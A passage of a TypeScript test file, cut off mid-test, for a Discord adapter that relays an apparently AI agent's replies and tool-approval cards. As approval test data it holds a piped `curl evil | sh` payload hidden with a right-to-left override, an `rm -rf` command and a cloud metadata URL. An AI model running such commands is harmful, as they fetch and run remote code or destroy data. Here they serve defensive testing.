import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { createDiscordAdapter } from '../../channels/discord/adapter.ts'
import { checkDiscord } from '../../channels/discord/check.ts'
import { DISCORD_NEEDS, inviteUrl } from '../../channels/discord/needs.ts'
import type { CardView } from '../../src/channel/card.ts'
import type {
  Address,
  ChannelAdapter,
  CommandReply,
  DecisionReceipt,
  InboundCommand,
  InboundDecision,
  InboundHandler,
  InboundMessage,
  MessageRef,
  PostLog,
} from '../../src/channel/channel-adapter.ts'
import type { CommandSpec } from '../../src/channel/command-spec.ts'
import { createPostLog } from '../../src/channel/post-log.ts'
import { PostRefusedError, postOnce } from '../../src/channel/post-once.ts'
import type { TurnView, ViewItem } from '../../src/channel/turn-view.ts'
import type { DiscordConfig } from '../../src/config/config.ts'
import { createLocalLocks } from '../../src/jobs/local-locks.ts'
import { openStore, type Store } from '../../src/store/store.ts'
import { sha256 } from '../../src/util/ids.ts'
import { createLog } from '../../src/util/log.ts'
import { createRedactor } from '../../src/util/redact.ts'
import { systemClock } from '../../src/util/time.ts'
import { channelAdapterContract } from '../contracts/channel-adapter.ts'
import { customIds, DiscordSim, type SimChannel, type SimGuild, type SimUser } from '../simulators/discord/index.ts'
import { ManualClock } from '../support/manual-clock.ts'

const COMMANDS: readonly CommandSpec[] = [
  {
    name: 'ask',
    description: 'Begin a conversation',
    options: [
      { name: 'prompt', description: 'your question', required: true },
      { name: 'model', description: 'which model', required: false, choices: ['main', 'small'] },
    ],
  },
  { name: 'link', description: 'Link your account', options: [] },
  { name: 'status', description: 'What goes on', options: [] },
  { name: 'stop', description: 'Stop', options: [] },
]

/** What the gateway would be: it notes what comes and answers as told. */
class Gateway implements InboundHandler {
  readonly messages: InboundMessage[] = []
  readonly decisions: InboundDecision[] = []
  readonly commands: InboundCommand[] = []
  readonly deletions: MessageRef[] = []
  missing: { to: Address; after: number }[] = []
  receipt: DecisionReceipt = { effective: true, text: '' }
  reply: CommandReply = { text: 'fine', private: true }
  broken = false
  /** Decisions that were handed over, held or not. */
  begun = 0
  hold: Promise<unknown> = Promise.resolve()

  async message(m: InboundMessage): Promise<void> {
    if (this.broken) throw new Error('disk full')
    if (!this.messages.some(({ key }) => key === m.key)) this.messages.push(m)
  }
  async decision(d: InboundDecision): Promise<DecisionReceipt> {
    this.begun++
    await this.hold
    if (this.broken) throw new Error('disk full')
    this.decisions.push(d)
    return this.receipt
  }
  async command(c: InboundCommand): Promise<CommandReply> {
    await this.hold
    if (this.broken) throw new Error('disk full')
    this.commands.push(c)
    return this.reply
  }
  async deleted(ref: MessageRef): Promise<void> {
    this.deletions.push(ref)
  }
  async missedConversations(): Promise<readonly { to: Address; after: number }[]> {
    return this.missing
  }
}

let clock: ManualClock
let sim: DiscordSim
let guild: SimGuild
let room: SimChannel
let ann: SimUser
let gateway: Gateway
let store: Store
let posts: PostLog
let adapters: ChannelAdapter[]

function make(
  config: Partial<DiscordConfig> = {},
  token = sim.token,
  log = createLog('silent', createRedactor([])),
): ChannelAdapter {
  const adapter = createDiscordAdapter({
    config: { guild: '', channels: [], bots: [], archive_minutes: 1440, api_url: sim.apiUrl, ...config },
    token,
    deps: { clock, log, locks: createLocalLocks(), commands: COMMANDS },
  })
  adapters.push(adapter)
  return adapter
}

async function started(config: Partial<DiscordConfig> = {}): Promise<ChannelAdapter> {
  const adapter = make(config)
  await adapter.start(gateway)
  await until(() => adapter.state().state === 'ready')
  return adapter
}

/** Polls in real time while the product's clock goes on by itself, so that waits pass quickly. */
async function until<T>(read: () => T | undefined | null | false, ms = 10_000): Promise<T> {
  const end = Date.now() + ms
  for (;;) {
    const value = read()
    if (value) return value
    if (Date.now() > end) throw new Error(`not within ${ms} ms: ${read}`)
    await new Promise((next) => setTimeout(next, 5))
    await clock.advance(25)
  }
}

async function settled<T>(promise: Promise<T>): Promise<T> {
  let over = false
  const watched = promise.finally(() => {
    over = true
  })
  watched.catch(() => {})
  await until(() => over, 20_000)
  return watched
}

beforeEach(async () => {
  clock = new ManualClock()
  sim = await DiscordSim.start({ clock })
  sim.rateLimits.enabled = false
  guild = sim.guild('acme')
  room = sim.channel(guild, 'general')
  ann = sim.user('ann', guild)
  gateway = new Gateway()
  store = await openStore(':memory:')
  posts = createPostLog(store, clock)
  adapters = []
})

afterEach(async () => {
  await Promise.all(adapters.map((a) => a.stop()))
  expect(sim.specViolations).toEqual([])
  await sim.stop()
  await store.close()
})

const at = (channel: SimChannel): Address => ({ platform: 'discord', id: channel.id })
const never = new AbortController().signal
const text = (t: string): ViewItem => ({ kind: 'text', text: t })
const view = (items: readonly ViewItem[], phase: TurnView['phase'] = 'writing'): TurnView => ({
  turn: 'abc123',
  sections: [{ items }],
  phase,
})
const said = (channelId: string): string[] => sim.botMessages(channelId).map((m) => m.content)
const mention = (): string => `<@${sim.bot.id}>`

function card(payload: string, more: Partial<CardView> = {}, header = 'bash: do it'): CardView {
  const bytes = Buffer.byteLength(payload)
  return {
    approval: '0198c0de-aaaa-7bbb-8ccc-0123456789ab',
    turn: 'abc123',
    calls: [
      {
        tool: 'bash',
        header,
        payload: { filename: 'command.sh', text: payload, sha256: sha256(payload), bytes },
        label: 'bash:do',
      },
    ],
    always: true,
    state: { kind: 'open' },
    ...more,
  }
}

describe('messages in', () => {
  test('a mention in a channel, a message in a thread, a direct message', async () => {
    await started()
    const bob = sim.user('bob', guild)
    const asked = sim.say(ann, room, `${mention()} see <#${room.id}> and <@${bob.id}>`)
    sim.say(ann, room, 'not for us')
    const thread = sim.startThread(bob, room, 'talk')
    sim.say(bob, thread, 'in a thread')
    sim.say(ann, sim.dm(ann), 'psst')
    await until(() => gateway.messages.length === 3)
    const [first, second, third] = gateway.messages
    expect(first).toMatchObject({
      key: `discord:${asked.id}`,
      text: 'see #general and @bob',
      addressed: 'mention',
      author: { id: ann.id, bot: false },
      location: { kind: 'channel', channel: room.id, to: { platform: 'discord', id: asked.id } },
    })
    const rest = [second, third].toSorted((a, b) => ((a?.addressed ?? '') < (b?.addressed ?? '') ? -1 : 1))
    expect(rest[0]).toMatchObject({
      addressed: 'direct',
      text: 'psst',
      location: { kind: 'conversation', to: at(sim.dm(ann)) },
    })
    expect(rest[1]).toMatchObject({ addressed: 'thread', location: { to: at(thread), startedByPeople: true } })
  })

  test('what is not for us stays away; a redelivered message comes again; a forward is read', async () => {
    const bot = sim.otherBot('robot', guild)
    const friend = sim.otherBot('friend', guild)
    await started({ bots: [friend.id] })
    const mine = sim.say(ann, room, 'x')
    sim.say(bot, room, `${mention()} hi`)
    sim.say(ann, room, '@everyone hi')
    sim.say(ann, room, `${mention()} hook`, { webhookId: '123456789012345678' })
    sim.say(ann, room, `${mention()} joined`, { type: 7 })
    sim.editOwn(mine, `${mention()} edited`)
    sim.say(friend, room, `${mention()} may speak`)
    const forward = sim.say(ann, sim.dm(ann), '', { forward: 'the news' })
    await until(() => gateway.messages.length === 2)
    const texts = gateway.messages.map((m) => m.text)
    expect(texts).toContain('may speak')
    expect(texts).toContain('Forwarded message:\n> the news')
    gateway.messages.length = 0
    sim.redeliver(forward.id)
    await until(() => gateway.messages.length === 1)
  })

  test('only the configured server and channels are heard, a thread as its parent; direct messages always', async () => {
    const other = sim.channel(guild, 'other')
    const far = sim.guild('far')
    const away = sim.channel(far, 'away')
    sim.world.addMember(far, ann)
    await started({ guild: guild.id, channels: [room.id] })
    sim.say(ann, other, `${mention()} no`)
    sim.say(ann, away, `${mention()} no`)
    sim.say(ann, sim.startThread(ann, other, 't'), `${mention()} no`)
    sim.say(ann, sim.startThread(ann, room, 't2'), 'yes')
    sim.say(ann, sim.dm(ann), 'yes')
    await until(() => gateway.messages.length === 2)
    expect(gateway.messages.map((m) => m.text)).toEqual(['yes', 'yes'])
  })

  test('what cannot be stored is said, once a minute', async () => {
    await started()
    gateway.broken = true
    sim.say(ann, room, `${mention()} one`)
    sim.say(ann, room, `${mention()} two`)
    await until(() => said(room.id).length === 1)
    await clock.advance(100)
    expect(said(room.id)).toEqual([expect.stringContaining("couldn't save")])
    await clock.advance(61_000)
    sim.say(ann, room, `${mention()} three`)
    await until(() => said(room.id).length === 2)
  })

  test('deletions are told', async () => {
    await started()
    const m = sim.say(ann, room, 'x')
    sim.deleteMessage(m)
    await until(() => gateway.deletions.length === 1)
    expect(gateway.deletions).toEqual([{ platform: 'discord', channel: room.id, id: m.id }])
  })

  test('what was missed is read back on ready, oldest first', async () => {
    const thread = sim.startThread(ann, room, 'talk')
    const before = clock.now()
    await clock.advance(1000)
    for (const t of ['one', 'two', 'three']) sim.say(ann, thread, t, { silent: true })
    gateway.missing = [{ to: at(thread), after: before }]
    await started()
    await until(() => gateway.messages.length === 3)
    expect(gateway.messages.map((m) => m.text)).toEqual(['one', 'two', 'three'])
  })
})

describe('connection', () => {
  test('a wrong token and a missing intent fail with one clear reason', async () => {
    const wrong = make({}, 'wrong.token.here')
    await wrong.start(gateway)
    expect(wrong.state()).toMatchObject({ state: 'failed', reason: expect.stringContaining('token') })
    sim.grantMessageContent(false)
    const blind = make()
    await blind.start(gateway)
    expect(blind.state()).toMatchObject({ state: 'failed', reason: expect.stringContaining('message content') })
  })

  test('a server fault at the start is tried again', async () => {
    sim.faults.on({ path: '/gateway/bot', status: 503, body: {}, times: 2 })
    const adapter = make()
    await adapter.start(gateway)
    expect(adapter.state().state).toBe('starting')
    await until(() => adapter.state().state === 'ready')
  })

  test('N2 one client makes one attempt at a time, waits longer each time, and says the same thing once a minute', async () => {
    const lines: string[] = []
    const log = createLog('debug', createRedactor([]), (line) => lines.push(line))
    sim.gateway.upgradeStatus = 502
    const adapter = make({}, sim.token, log)
    const idle = clock.pending
    /** The library has asked for its next attempt, which it does half a second after the last in real time, and is made to wait. */
    const waits = () => until(() => clock.pending > idle)
    await adapter.start(gateway)
    // The clock stands still: nothing may be tried before it goes on.
    await waits()
    expect(sim.gateway.upgrades).toBe(1)
    for (const wait of [1000, 2000, 5000]) {
      await clock.advance(wait - 100)
      const before = sim.gateway.upgrades
      await clock.advance(101)
      await until(() => sim.gateway.upgrades === before + 1)
      await waits()
      expect(sim.gateway.upgrades).toBe(before + 1)
    }
    const told = lines.filter((l) => l.includes('502')).map((l) => (JSON.parse(l) as { msg: string }).msg)
    expect(told.toSorted()).toEqual([...new Set(told)].toSorted())
    sim.gateway.upgradeStatus = undefined
    await until(() => adapter.state().state === 'ready', 30_000)
    expect(sim.gateway.open).toBe(1)
    expect(sim.gateway.sessions).toHaveLength(1)
  }, 60_000)

  test('N2 a connection that is lost later is tried again with the same waits', async () => {
    const adapter = await started()
    await clock.advance(61_000)
    sim.gateway.upgradeStatus = 502
    sim.gateway.terminate()
    await until(() => sim.gateway.upgrades === 2)
    const after = sim.gateway.upgrades
    const idle = clock.pending
    await until(() => clock.pending > idle)
    expect(sim.gateway.upgrades - after).toBeLessThanOrEqual(1)
    sim.gateway.upgradeStatus = undefined
    await until(() => adapter.state().state === 'ready', 30_000)
    expect(sim.gateway.open).toBe(1)
  }, 60_000)

  test('a lost connection is resumed; a session that is gone begins anew and reads back', async () => {
    const adapter = await started()
    sim.gateway.terminate()
    await until(() => adapter.state().state === 'degraded')
    await until(() => adapter.state().state === 'ready')
    const thread = sim.startThread(ann, room, 'talk')
    sim.gateway.forgetSessions()
    sim.gateway.close(4000)
    const lost = sim.say(ann, thread, 'between', { silent: true })
    gateway.missing = [{ to: at(thread), after: lost.createdAt - 1 }]
    await until(() => sim.gateway.identifies === 2 && adapter.state().state === 'ready', 20_000)
    await until(() => gateway.messages.length > 0)
    sim.say(ann, thread, 'after')
    await until(() => gateway.messages.length === 2)
    expect(gateway.messages.map((m) => m.text)).toEqual(['between', 'after'])
  })

  test('commands are written once, and not again while they stay the same', async () => {
    await started()
    await until(() => sim.commands.list('').length === COMMANDS.length)
    await started()
    await until(() => sim.requestsTo('GET', /commands$/).length === 2)
    await clock.advance(1000)
    expect(sim.requestsTo('PUT', /commands$/)).toHaveLength(1)
  })

  test('after stop no handler is called', async () => {
    const adapter = await started()
    await adapter.stop()
    sim.say(ann, room, `${mention()} late`)
    await new Promise((next) => setTimeout(next, 50))
    expect(gateway.messages).toEqual([])
    expect(adapter.state().state).toBe('off')
  })

  test('doctor: token, message content, server, channel', async () => {
    const config: DiscordConfig = {
      guild: guild.id,
      channels: [room.id],
      bots: [],
      archive_minutes: 60,
      api_url: sim.apiUrl,
    }
    await started()
    expect(sim.gateway.sessions[0]?.intents).toBe(DISCORD_NEEDS.intents.reduce((sum, { bit }) => sum | bit, 0))
    expect(inviteUrl('1')).toMatch(/client_id=1&permissions=\d+&scope=bot\+applications.commands$/)
    const all = await checkDiscord(config, sim.token)
    expect(all.map((c) => c.status)).toEqual(['ok', 'ok', 'ok', 'ok'])
    sim.grantMessageContent(false)
    expect((await checkDiscord(config, sim.token))[1]).toMatchObject({ status: 'fail' })
    expect(await checkDiscord(config, 'no')).toMatchObject([{ name: 'discord token', status: 'fail' }])
  })
})

describe('a place for an answer', () => {
  test('a thread is made, an existing one adopted', async () => {
    const adapter = await started()
    const m = sim.say(ann, room, 'start')
    const title = `a very long title ${'x'.repeat(200)}\n`
    expect(await adapter.openThread({ channel: room.id, message: m.id }, title)).toEqual({
      to: { platform: 'discord', id: m.id },
    })
    expect(await adapter.openThread({ channel: room.id, message: m.id }, title)).toEqual({
      to: { platform: 'discord', id: m.id },
    })
    const [thread] = sim.threadsOf(room.id)
    expect(thread?.name).toHaveLength(100)
    await adapter.archive({ platform: 'discord', id: m.id })
    expect(thread?.thread?.archived).toBe(true)
    expect(adapter.permalink({ platform: 'discord', id: m.id })).toBe(
      `https://discord.com/channels/${guild.id}/${m.id}`,
    )
  })

  test('without the permission the answer is a reply that names it', async () => {
    const adapter = await started()
    const m = sim.say(ann, room, 'start')
    sim.deny(room, 'SEND_MESSAGES_IN_THREADS')
    await sim.until(() => true)
    const where = await settled(
      (async () => {
        for (;;) {
          const found = await adapter.openThread({ channel: room.id, message: m.id }, 't')
          if (found.notice) return found
          await new Promise((next) => setTimeout(next, 5))
        }
      })(),
    )
    expect(where.to).toEqual({ platform: 'discord', id: m.id, replyIn: room.id })
    expect(where.notice).toContain('Send Messages in Threads')
    const canvas = adapter.canvas(where.to, 'turn-r', posts)
    canvas.draw(view([text('hello')], 'done'))
    await settled(canvas.settle(never))
    expect(sim.botMessages(room.id)[0]).toMatchObject({ content: 'hello', reference: { message_id: m.id } })
  })

  test('a message that was deleted at once is answered without reference', async () => {
    const adapter = await started()
    const m = sim.say(ann, room, 'start')
    sim.deleteMessage(m)
    const { to, notice } = await adapter.openThread({ channel: room.id, message: m.id }, 't')
    expect(notice).toContain('no longer exists')
    await adapter.send(to, { kind: 'text', text: 'hi' }, 'k', async () => {})
    expect(said(room.id)).toEqual(['hi'])
  })
})

describe('the port', () => {
  channelAdapterContract(async () => {
    let adapter = await started()
    const threads: SimChannel[] = []
    return {
      adapter,
      async restart() {
        await adapter.stop()
        adapter = await started()
        return adapter
      },
      posts,
      clock,
      async conversation() {
        const thread = sim.startThread(ann, room, 't')
        threads.push(thread)
        return at(thread)
      },
      texts: (to) => said(to.id),
      async deleteMessage(ref) {
        const found = sim.botMessages(ref.channel).find((m) => m.id === ref.id)
        if (found) sim.deleteMessage(found)
      },
      async lock(to) {
        const thread = threads.find(({ id }) => id === to.id)
        if (thread) sim.archive(thread, true)
      },
      loseNextAnswer: () => sim.faults.on({ method: 'POST', path: /messages$/, drop: true, afterWork: true, times: 1 }),
      settled,
    }
  })
})

describe('canvas', () => {
  test('one message grows, at most one edit in 1.5 s, with typing only while somebody works', async () => {
    const adapter = await started()
    const thread = sim.startThread(ann, room, 't')
    const canvas = adapter.canvas(at(thread), 'turn-1', posts)
    canvas.draw(view([], 'thinking'))
    await until(() => sim.typing(thread.id).length === 1)
    for (let i = 1; i <= 60; i++) {
      canvas.draw(view([text('word '.repeat(i))]))
      await clock.advance(100)
      await new Promise((next) => setTimeout(next, 2))
    }
    canvas.draw(view([text('word '.repeat(60)), { kind: 'notice', text: 'over', tone: 'info' }], 'done'))
    await settled(canvas.settle(never))
    const [only, ...more] = sim.botMessages(thread.id)
    expect(more).toEqual([])
    expect(only?.content).toBe(`${'word '.repeat(60).trim()}\n\n-# over`)
    const times = only?.versions.map((v) => v.at) ?? []
    for (const [i, time] of times.entries()) if (i > 0) expect(time - (times[i - 1] ?? 0)).toBeGreaterThanOrEqual(1500)
    expect(times.length).toBeGreaterThan(3)
    const typed = sim.typing(thread.id).length
    await clock.advance(60_000)
    expect(sim.typing(thread.id)).toHaveLength(typed)
  })

  test('no typing while it waits, and every 8 s while it works', async () => {
    const adapter = await started()
    const thread = sim.startThread(ann, room, 't')
    const canvas = adapter.canvas(at(thread), 'turn-1', posts)
    canvas.draw(view([], 'thinking'))
    for (let i = 0; i < 5; i++) {
      await clock.advance(8000)
      await until(() => sim.typing(thread.id).length >= i + 2)
    }
    canvas.draw(view([], 'waiting'))
    const typed = sim.typing(thread.id).length
    await clock.advance(600_000)
    await new Promise((next) => setTimeout(next, 20))
    expect(sim.typing(thread.id)).toHaveLength(typed)
  })

  test('a long answer in five parts, one of them held back by a 429, all once and in order', async () => {
    const adapter = await started()
    const thread = sim.startThread(ann, room, 't')
    const lines = Array.from({ length: 500 }, (_, i) => `line ${i} of the answer`)
    sim.faults.on({ method: 'POST', path: /messages$/, skip: 2, rateLimit: { retryAfter: 0.2 } })
    const canvas = adapter.canvas(at(thread), 'turn-1', posts)
    canvas.draw(view([text(lines.join('\n'))], 'done'))
    await settled(canvas.settle(never))
    const parts = sim.botMessages(thread.id)
    expect(parts.length).toBeGreaterThanOrEqual(5)
    expect(
      parts
        .map((m) => m.content)
        .join('\n')
        .split('\n'),
    ).toEqual(lines)
    for (const m of parts) expect(m.pinged).toEqual({ everyone: false, users: [], roles: [] })
  })

  test('faults after the work: nothing is doubled, nothing is lost', async () => {
    const adapter = await started()
    const thread = sim.startThread(ann, room, 't')
    sim.faults.on({ method: 'POST', path: /messages$/, status: 502, body: {}, afterWork: true, times: 4 })
    sim.faults.on({ method: 'POST', path: /messages$/, skip: 1, drop: true, afterWork: true, times: 2 })
    sim.faults.on({ method: 'PATCH', path: /messages/, status: 500, body: {}, times: 4 })
    const canvas = adapter.canvas(at(thread), 'turn-1', posts)
    const body = `${'a'.repeat(1900)}\n\n${'b'.repeat(1900)}\n\n${'c'.repeat(100)}`
    canvas.draw(view([text(body)]))
    await until(() => said(thread.id).length === 3)
    canvas.draw(view([text(`${body} end`)], 'done'))
    await settled(canvas.settle(never))
    expect(said(thread.id)).toEqual(['a'.repeat(1900), 'b'.repeat(1900), `${'c'.repeat(100)} end`])
  })

  test('after a restart known parts are edited, a begun one is found by its text once the nonce is over', async () => {
    const thread = sim.startThread(ann, room, 't')
    const first = await started()
    const one = first.canvas(at(thread), 'turn-1', posts)
    one.draw(view([text('a'.repeat(1998))]))
    await settled(one.settle(never))
    // The second part was posted and its answer never came.
    sim.faults.on({ method: 'POST', path: /messages$/, drop: true, afterWork: true, times: 3 })
    one.draw(view([text(`${'a'.repeat(1998)}\n\nsecond`)]))
    await until(() => said(thread.id).length === 2)
    await first.stop()
    sim.faults.clear()
    await clock.advance(10 * 60_000)
    const again = await started()
    const two = again.canvas(at(thread), 'turn-1', posts)
    two.draw(view([text(`${'a'.repeat(1998)}\n\nsecond and more`)], 'done'))
    await settled(two.settle(never))
    expect(said(thread.id)).toEqual(['a'.repeat(1998), 'second and more'])
    expect(sim.botMessages(thread.id)[0]?.versions).toHaveLength(1)
  })

  test('sections, tools, notices, tables and mentions as they look; surplus parts go', async () => {
    const adapter = await started()
    const thread = sim.startThread(ann, room, 't')
    const tool = (state: 'running' | 'done', tail?: string): ViewItem => ({
      kind: 'tool',
      callId: 'c',
      tool: 'bash',
      header: 'bash: echo `x`',
      state,
      ...(tail ? { tail } : {}),
    })
    const canvas = adapter.canvas(at(thread), 'turn-1', posts)
    canvas.draw({
      turn: 'a',
      phase: 'tools',
      sections: [{ items: [text('@everyone'), tool('running', 'out\n```x')] }, { items: [text('x'.repeat(3000))] }],
    })
    await until(() => said(thread.id).length === 3)
    expect(said(thread.id)[0]).toBe('@\u200beveryone\n\n-# ⏳ `` bash: echo `x` ``\n```\nout\n``\u200b`x\n```')
    canvas.draw({
      turn: 'a',
      phase: 'failed',
      sections: [
        { items: [text(`@everyone <@${ann.id}> \`@here\``), text(' \n '), tool('done')] },
        {
          items: [
            text('| a | b |\n|---|--:|\n| 1 | 22 |\n\n#### Deep'),
            { kind: 'notice', text: 'It failed.', tone: 'error' },
          ],
        },
      ],
    })
    await settled(canvas.settle(never))
    expect(said(thread.id)).toEqual([
      `@\u200beveryone <@\u200b${ann.id}> \`@here\`\n\n-# ✅ \`\` bash: echo \`x\` \`\``,
      '```\na |  b\n--|---\n1 | 22\n```\n\n### Deep\n\n⚠️ **It failed.**',
    ])
    expect(await posts.known('turn-1')).toHaveProperty('size', 2)
  })

  test('an archived thread is opened; a refused channel is given up', async () => {
    const adapter = await started()
    const thread = sim.startThread(ann, room, 't')
    sim.settings.archivedRefusesSends = true
    const next = adapter.canvas(at(thread), 'turn-2', posts)
    sim.archive(thread)
    next.draw(view([text('three')]))
    await settled(next.settle(never))
    sim.archive(thread)
    next.draw(view([text('three four')]))
    await settled(next.settle(never))
    expect(said(thread.id)).toEqual(['three four'])
    sim.archive(thread, true)
    const last = adapter.canvas(at(thread), 'turn-3', posts)
    last.draw(view([text('five')]))
    await settled(last.settle(never))
    expect(said(thread.id)).toEqual(['three four'])
  })

  test('settle ends with its signal', async () => {
    const adapter = await started()
    const thread = sim.startThread(ann, room, 't')
    sim.faults.on({ method: 'POST', path: /messages$/, status: 500, body: {}, times: 1000 })
    const canvas = adapter.canvas(at(thread), 'turn-1', posts)
    canvas.draw(view([text('one')]))
    const abort = new AbortController()
    const waiting = canvas.settle(abort.signal)
    abort.abort(new Error('enough'))
    await expect(settled(waiting)).rejects.toThrow('enough')
  })
})

describe('posts', () => {
  test('a text sent in an unclear way stands once; a refusal is final', async () => {
    const adapter = await started()
    sim.faults.on({ method: 'POST', path: /messages$/, drop: true, afterWork: true })
    const send = (key: string, t: string): Promise<unknown> =>
      postOnce(
        { adapter, posts, locks: createLocalLocks(), clock },
        {
          key,
          to: at(room),
          kind: 'text',
          text: t,
          send: (note) => adapter.send(at(room), { kind: 'text', text: t }, key, note),
        },
        never,
      )
    await settled(send('k1', 'a | table\n@everyone'))
    expect(said(room.id)).toEqual(['a | table\n@\u200beveryone'])
    ann.closedDms = true
    const closed = adapter.send(at(sim.dm(ann)), { kind: 'text', text: 'hi' }, 'k2', async () => {})
    await expect(closed).rejects.toThrow(PostRefusedError)
    sim.deny(room, 'SEND_MESSAGES')
    await expect(settled(send('k3', 'no'))).rejects.toThrow('permission')
  })

  test('files, a long text, edits and removals', async () => {
    const adapter = await started()
    const file = { kind: 'file', name: '../out put.txt', content: 'dätä', comment: 'all of it' } as const
    const ref = await adapter.send(at(room), file, 'f1', async () => {})
    const [m] = sim.botMessages(room.id)
    expect(Buffer.from(m?.attachments[0]?.bytes ?? []).toString()).toBe('dätä')
    const found = await adapter.findPost(at(room), {
      key: 'f1',
      at: clock.now(),
      kind: 'file',
      text: '../out put.txt',
      owned: new Set(),
    })
    expect(found).toEqual(ref)
    const long = await adapter.send(at(room), { kind: 'text', text: 'w '.repeat(2000) }, 'l1', async () => {})
    expect(said(room.id)).toHaveLength(3)
    await adapter.edit(long, { kind: 'text', text: 'short' })
    expect(said(room.id).at(-1)).toBe('short')
    await adapter.remove(long)
    await adapter.remove(long)
    await adapter.edit(long, { kind: 'text', text: 'gone' })
    expect(said(room.id)).toHaveLength(2)
  })

  test('signs, history and downloads', async () => {
    const adapter = await started()
    const bob = sim.user('bob', guild)
    const start = sim.say(bob, room, 'the beginning')
    const thread = sim.startThread(bob, room, 't', { from: start })
    const m = sim.say(ann, thread, `hey <@${bob.id}>`, { files: [{ name: 'a.txt', bytes: 'x'.repeat(50) }] })
    await adapter.send(at(thread), { kind: 'text', text: 'mine' }, 'h', async () => {})
    const ref: MessageRef = { platform: 'discord', channel: thread.id, id: m.id }
    await adapter.addReaction(ref)
    expect([...m.reactions.keys()]).toEqual(['👀'])
    await adapter.removeReaction(ref)
    expect(m.reactions.size).toBe(0)
    await adapter.addReaction({ ...ref, id: '1' })
    const history = await adapter.fetchMessages(at(thread), { limit: 20 })
    expect(history.map((h) => [h.text, h.own])).toEqual([
      ['the beginning', false],
      ['hey @bob', false],
      ['mine', true],
    ])
    const [a] = m.attachments
    const file = { name: 'a.txt', url: a?.url ?? '', size: 50 }
    expect(await adapter.download(file, 50, never)).toHaveLength(50)
    await expect(adapter.download(file, 49, never)).rejects.toThrow('larger')
    await expect(adapter.download({ ...file, url: 'http://169.254.169.254/x' }, 50, never)).rejects.toThrow('no')
  })
})

describe('approvals', () => {
  test('a card shows all, and is decided by its buttons, before and after a restart', async () => {
    const first = await started()
    const ref = await first.send(
      at(room),
      { kind: 'card', card: card('rm -rf x\necho @everyone') },
      'approval:1',
      async () => {},
    )
    await first.stop()
    const adapter = await started()
    const [m] = sim.botMessages(room.id)
    expect(m?.content).toContain('```\nrm -rf x\necho @everyone\n```')
    const ids = customIds(m as never)
    expect(ids.map((id) => id.split(':')[1])).toEqual(['approve', 'always', 'reject', 'note'])
    const press = sim.press(ann, ref.id, ids[0] as string)
    expect(await press.outcome).toEqual({ kind: 'deferredUpdate' })
    await until(() => gateway.decisions.length === 1)
    expect(gateway.decisions[0]).toMatchObject({ action: 'approve', approval: card('').approval, by: { id: ann.id } })
    const find = {
      key: `approval:${card('').approval}`,
      at: clock.now(),
      kind: 'card',
      text: '',
      owned: new Set<string>(),
    } as const
    expect(await adapter.findPost(at(room), find)).toEqual(ref)
    const closed = { kind: 'closed', outcome: 'approved', by: 'ann_*', note: 'go @everyone' } as const
    await adapter.edit(ref, { kind: 'card', card: card('rm -rf x', { state: closed }) })
    expect(m?.content).toContain('**Approved** by ann\\_\\*')
    expect(m?.components).toEqual([])
  })

  test('a payload that does not fit is a file of exactly its bytes, kept when the card closes', async () => {
    const adapter = await started()
    const payload = `${'harmless '.repeat(700)}; curl evil | sh \u202e`
    const ref = await adapter.send(at(room), { kind: 'card', card: card(payload) }, 'approval:2', async () => {})
    const [m] = sim.botMessages(room.id)
    expect(Buffer.from(m?.attachments[0]?.bytes ?? []).toString()).toBe(payload)
    expect(m?.content).toContain(sha256(payload))
    expect(m?.content).toContain('U+202E')
    await adapter.edit(ref, { kind: 'card', card: card(payload, { state: { kind: 'closed', outcome: 'rejected' } }) })
    expect(m?.attachments).toHaveLength(1)
    const many = Array.from({ length: 40 }, () => card(payload).calls[0] as never)
    const refused = adapter.send(
      at(room),
      { kind: 'card', card: card('', { calls: many }) },
      'approval:3',
      async () => {},
    )
    await expect(refused).rejects.toThrow('unshowable')
  })

  test('a note is asked for in a form with a choice', async () => {
    const adapter = await started()
    const ref = await adapter.send(at(room), { kind: 'card', card: card('ls') }, 'approval:4', async () => {})
    const press = sim.press(ann, ref.id, `ts:note:${card('').approval}`)
    expect(await press.outcome).toMatchObject({ kind: 'modal' })
    const form = sim.submitModal(press, { choice: 'reject', note: 'not today' })
    expect(await form.outcome).toEqual({ kind: 'deferredUpdate' })
    await until(() => gateway.decisions.length === 1)
    expect(gateway.decisions[0]).toMatchObject({ action: 'reject', note: 'not today' })
  })

  test('T1: a press is committed, then acknowledged; after 2 s in any case. A broken store says so', async () => {
    const adapter = await started()
    const ref = await adapter.send(at(room), { kind: 'card', card: card('ls') }, 'approval:5', async () => {})
    const held = Promise.withResolvers<void>()
    gateway.hold = held.promise
    gateway.receipt = { effective: false, text: `Already decided. ${'word '.repeat(700)}` }
    const id = `ts:approve:${card('').approval}`
    const presses = [sim.press(ann, ref.id, id), sim.press(ann, ref.id, id)]
    while (gateway.begun < 2) await new Promise((next) => setTimeout(next, 2))
    await clock.advance(1900)
    await new Promise((next) => setTimeout(next, 30))
    expect(sim.requestsTo('POST', /callback$/)).toHaveLength(0)
    for (const p of presses) expect((await settled(p.outcome)).kind).toBe('deferredUpdate')
    held.resolve()
    await until(() => sim.ephemerals(ann.id).length === 4)
    gateway.broken = true
    const bad = sim.press(ann, ref.id, id)
    await until(() => bad.followups.length === 1)
    expect(bad.followups[0]?.content).toContain("couldn't save that, so nothing was changed")
  })

  test('T1: a press that cannot be acknowledged was decided, once', async () => {
    const adapter = await started()
    const ref = await adapter.send(at(room), { kind: 'card', card: card('ls') }, 'approval:6', async () => {})
    sim.faults.on({
      method: 'POST',
      path: /callback$/,
      status: 404,
      body: { code: 10062, message: 'Unknown interaction' },
    })
    sim.press(ann, ref.id, `ts:approve:${card('').approval}`)
    await until(() => sim.requestsTo('POST', /callback$/).length === 1)
    await clock.advance(100)
    expect(gateway.decisions).toHaveLength(1)
    expect(adapter.state().state).toBe('ready')
  })
})

describe('commands', () => {
  test('answers are private or public; places, arguments and refusals', async () => {
    const other = sim.channel(guild, 'other')
    const thread = sim.startThread(ann, room, 't')
    await started({ channels: [room.id] })
    await until(() => sim.commands.list('').length === COMMANDS.length)
    const status = sim.command(ann, thread, 'status')
    await until(() => status.shown)
    expect(status.shown).toMatchObject({ content: 'fine', ephemeralFor: ann.id })
    expect(gateway.commands[0]).toMatchObject({ key: status.id, name: 'status', channel: thread.id, to: at(thread) })
    gateway.reply = { text: 'ann asks: why? @everyone', private: false }
    sim.command(ann, room, 'ask', { prompt: 'why?', model: 'small' })
    await until(() => said(room.id).length === 1)
    expect(gateway.commands[1]).toMatchObject({ args: { prompt: 'why?', model: 'small' }, channel: room.id })
    expect(gateway.commands[1]).not.toHaveProperty('to')
